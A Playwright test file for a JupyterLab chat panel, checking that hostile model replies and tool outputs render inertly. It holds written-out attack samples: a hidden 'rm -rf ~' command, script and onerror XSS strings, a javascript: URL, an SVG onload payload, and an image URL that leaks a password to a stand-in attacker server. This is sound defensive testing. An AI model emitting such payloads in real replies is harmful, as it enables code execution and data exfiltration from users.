"""The sidebar panel never runs, loads or copies what a reply hides (issue 14).

A model in a real kernel streams the payload corpus (tests/security/payloads.json) into the
panel in small pieces, so renders see the payloads cut at arbitrary places; the page is then
checked after each reply finished and again after a reload. A local beacon server stands in
for an attacker's host: nothing may reach it unless the user clicks "Load image".
"""

from __future__ import annotations

import json
from typing import Any

from lab_helpers import (
    assistant_messages,
    cell_source,
    copied_text,
    new_notebook,
    notebook_cells,
    open_lab,
    panel,
    run_cell,
    send,
    wait_finished,
    wait_model_listed,
)
from payload_corpus import PAYLOADS, payload_markdown
from security_helpers import Beacon, Watched

MODEL = """
import json, jupyter_deltachat as dc
from jupyter_deltachat.stop import pause
_replies = json.load(open("security_replies.json", encoding="utf-8"))
@dc.register("payload")
def payload(messages):
    text = _replies[messages[-1].content.strip()]
    step = max(1, len(text) // 25)
    for start in range(0, len(text), step):
        yield text[start:start + step]
        if pause(0.02):
            return
"""

# Hidden-code cases: the source text of every code block the reply shows, in order.
SHOWN_CODE = {
    "hidden-code-zero-size-span": ["df.plot()"],
    "hidden-code-html-comment": ["import os; os.system('rm -rf ~')", "print('hello')"],
    "hidden-code-html-block": ['import os; os.remove("x")', "x = 1"],
    "hidden-code-inside-html-block-no-blank": ["steal()", "ok()"],
    "keep-fenced-html": ['<img src=x onerror="alert(1)">\n<script>go()</script>'],
    "keep-python-fence": [
        "import pandas as pd\ndf = pd.DataFrame({'a': [1, 2]})\nif df.a.max() < 3:\n    df.plot()"
    ],
}
NOT_MATHJAX = ":not(mjx-container, mjx-container *)"


def replies(beacon: Beacon) -> dict[str, str]:
    """One reply per corpus class, the cases the test clicks through in a reply of their own."""
    grouped: dict[str, list[str]] = {}
    for entry in PAYLOADS:
        group = "clicks" if entry["click"] else entry["class"]
        grouped.setdefault(group, []).append(payload_markdown(entry, beacon.origin))
    return {name: "\n\n".join(parts) + "\n" for name, parts in grouped.items()}


def check_replies(page: Any, beacon: Beacon) -> None:
    """No element of a reply carries a class or style a payload brought (MathJax's own output
    aside); remote images are held."""
    body = panel(page).locator("[data-role='assistant'] .jp-DeltaChat-markdown")
    for entry in PAYLOADS:
        for attribute, part in entry["forbid_attrs"]:
            found = body.locator(f"[{attribute}*='{part}']{NOT_MATHJAX}")
            assert found.count() == 0, (entry["id"], found.first.evaluate("e => e.outerHTML"))
    assert body.locator(f"[style]{NOT_MATHJAX}").count() == 0
    assert panel(page).locator(".jp-DeltaChat-message").count() == 2 * len(replies(beacon))
    assert page.locator(".jp-Dialog").count() == 0
    held = body.locator(".jp-DeltaChat-heldImage")
    sources = sorted(held.evaluate_all("nodes => nodes.map(n => n.dataset.src)"))
    origin = beacon.origin
    assert sources == sorted(
        [
            f"{origin}/badge.svg",
            f"{origin}/cell.png",
            f"{origin}/chart.png",
            f"{origin}/li.png",
            f"{origin}/logo.png",
            f"{origin}/logo2.png",
            f"{origin}/logo2.png",  # [logo] is defined twice in this reply: the first wins
            f"{origin}/pixel.gif?d=my%20db%20password%20is%20hunter2",
            f"{origin}/q.png",
            f"//{beacon.host}/rel.png",
            "javascript:top.__pwned=1",
            "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9h"
            "ZD0idG9wLl9fcHduZWQ9MSIvPg==",
        ]
    )
    chart = held.filter(has_text="chart")
    assert chart.locator("button").text_content() == f"Load image from {beacon.host}"
    dot = body.locator("img[alt='dot']")
    assert dot.get_attribute("src", timeout=1000).startswith("data:image/png;base64,")


def click_everything(page: Any, reply: Any) -> None:
    """Every link, button and summary a click-case reply shows (not the panel's own)."""
    targets = reply.locator(
        ".jp-DeltaChat-markdown a, .jp-DeltaChat-markdown summary,"
        " .jp-DeltaChat-markdown button:not(.jp-DeltaChat-loadImage)"
    )
    assert targets.count() > 0
    for index in range(targets.count()):
        targets.nth(index).click()
    for other in page.context.pages:
        if other is not page:
            other.close()


def test_payload_corpus_runs_nothing_and_loads_nothing(page, lab_server, beacon):
    beacon.hits.clear()
    watched = Watched(page, lab_server)
    texts = replies(beacon)
    (lab_server.root / "security_replies.json").write_text(json.dumps(texts), encoding="utf-8")
    new_notebook(page)
    run_cell(page, MODEL)
    wait_model_listed(page, "payload")
    for count, name in enumerate(texts, start=1):
        send(page, name, model="payload")
        reply = wait_finished(page, count=count)
        if name == "clicks":
            click_everything(page, reply)
    watched.assert_nothing_ran_or_loaded(beacon)
    check_replies(page, beacon)

    open_lab(page, lab_server, query="")
    panel(page).locator(".jp-DeltaChat-status[data-state='ready']", has_text=".ipynb").wait_for()
    assistant_messages(page).nth(len(texts) - 1).wait_for()
    wait_finished(page, count=len(texts))
    watched.assert_nothing_ran_or_loaded(beacon)
    check_replies(page, beacon)


def test_remote_image_loads_only_after_its_click(page, lab_server, beacon):
    beacon.hits.clear()
    watched = Watched(page, lab_server)
    entry = next(e for e in PAYLOADS if e["id"] == "remote-image-https-alt")
    (lab_server.root / "security_replies.json").write_text(
        json.dumps({"image": payload_markdown(entry, beacon.origin)}), encoding="utf-8"
    )
    new_notebook(page)
    run_cell(page, MODEL)
    wait_model_listed(page, "payload")
    send(page, "image", model="payload")
    reply = wait_finished(page, count=1)
    watched.assert_nothing_ran_or_loaded(beacon)
    held = reply.locator(".jp-DeltaChat-heldImage")
    assert held.inner_text().startswith("chart")
    assert reply.locator("img").count() == 0

    held.get_by_role("button", name=f"Load image from {beacon.host}").click()
    beacon.wait_for("/chart.png")
    image = reply.locator("img[alt='chart']")
    assert image.get_attribute("src") == f"{beacon.origin}/chart.png"
    assert image.get_attribute("title") == "Chart"
    assert reply.locator(".jp-DeltaChat-heldImage").count() == 0
    assert page.evaluate("() => window.__pwned") is None


def test_copy_and_insert_take_the_code_blocks_the_reply_shows(page, lab_server, beacon):
    texts = {e["id"]: payload_markdown(e, beacon.origin) for e in PAYLOADS if e["id"] in SHOWN_CODE}
    (lab_server.root / "security_replies.json").write_text(json.dumps(texts), encoding="utf-8")
    new_notebook(page)
    run_cell(page, MODEL)
    wait_model_listed(page, "payload")
    for count, name in enumerate(texts, start=1):
        send(page, name, model="payload")
        reply = wait_finished(page, count=count)
        blocks = reply.locator(".jp-DeltaChat-code")
        copies = [
            copied_text(page, blocks.nth(i).get_by_role("button", name="Copy code"))
            for i in range(blocks.count())
        ]
        assert copies == SHOWN_CODE[name], name
        shown = blocks.evaluate_all(
            "blocks => blocks.map(b => b.querySelector('pre').innerText.replace(/\\n$/, ''))"
        )
        assert shown == copies, name
        entry = next(e for e in PAYLOADS if e["id"] == name)
        if entry["code"] is not None:
            assert copies[-1] == entry["code"]

        cells = notebook_cells(page)
        before = cells.count()
        cells.first.click()
        blocks.last.get_by_role("button", name="Insert code below the active cell").click()
        page.wait_for_function(
            "n => document.querySelectorAll('.jp-NotebookPanel:not(.lm-mod-hidden) .jp-Cell')"
            ".length === n",
            arg=before + 1,
        )
        assert cell_source(cells.nth(1)) == SHOWN_CODE[name][-1], name


TOOL_PAYLOAD_MODEL = """
import base64, jupyter_deltachat as dc
ORIGIN = {origin!r}
HTML = ('<img src="' + ORIGIN + '/html.png" onerror="top.__pwned=1">'
        '<script>top.__pwned=1</script>![md](' + ORIGIN + '/md.png)')
SVG = base64.b64encode(('<svg xmlns="http://www.w3.org/2000/svg" onload="top.__pwned=1">'
                        '<image href="' + ORIGIN + '/svg.png"/></svg>').encode()).decode()
@dc.tool(approval="never")
def hostile(text: str) -> dc.ToolResult:
    \"\"\"Returns hostile output.

    Args:
        text: anything.
    \"\"\"
    return dc.ToolResult(HTML + text, outputs=[
        dc.Attachment(name=HTML, media_type="image/svg+xml", data=SVG),
        dc.Attachment(name=HTML, media_type="image/png", data='x" onerror="top.__pwned=1'),
    ])
@dc.register("tool_payload")
def tool_payload(messages, config):
    if messages[-1].role == "tool":
        yield "checked"
        return
    yield dc.CallTool(HTML, {{"x": HTML}})
    yield dc.CallTool("hostile", {{"text": HTML}})
    yield dc.CallTool("python", {{"code": "```\\n" + HTML + "\\n```\\n#\\u202e\\x1b"}})
"""


def test_tool_cards_show_what_the_model_and_the_tool_chose_as_text(page, lab_server, beacon):
    """A tool call's name, arguments, result and outputs are the model's and the tool's
    choice: shown as text (a python call's code in a fence nothing can close, characters
    that hide or reorder text as escapes), no figure but
    a valid raster image, nothing run or loaded."""
    beacon.hits.clear()
    watched = Watched(page, lab_server)
    origin = beacon.origin
    html = (
        f'<img src="{origin}/html.png" onerror="top.__pwned=1">'
        f"<script>top.__pwned=1</script>![md]({origin}/md.png)"
    )
    new_notebook(page)
    run_cell(page, TOOL_PAYLOAD_MODEL.format(origin=origin))
    wait_model_listed(page, "tool_payload")
    panel(page).get_by_role("button", name="Use tools", exact=True).click()
    send(page, "go", model="tool_payload")
    cards = panel(page).locator(".jp-DeltaChat-toolCard")
    python = cards.nth(2)
    python.and_(page.locator("[data-status='awaiting_approval']")).wait_for()
    named, hostile = cards.nth(0), cards.nth(1)
    assert named.get_attribute("data-status") == "error"
    assert named.locator(".jp-DeltaChat-toolName").text_content() == html
    assert named.locator(".jp-DeltaChat-toolArguments").text_content() == json.dumps(
        {"x": html}, indent=2
    )
    assert hostile.get_attribute("data-status") == "done"
    assert hostile.locator(".jp-DeltaChat-toolResult pre").text_content() == html + html
    assert hostile.locator("img").count() == 0
    code = python.locator(".jp-DeltaChat-toolCode pre").inner_text().rstrip("\n")
    assert code == f"```\n{html}\n```\n#\\u202e\\x1b"  # what hides, escaped as in %chat
    python.get_by_role("button", name="Deny tool", exact=True).click()
    wait_finished(page)
    assert panel(page).locator("[onerror], [onload], script").count() == 0
    watched.assert_nothing_ran_or_loaded(beacon)
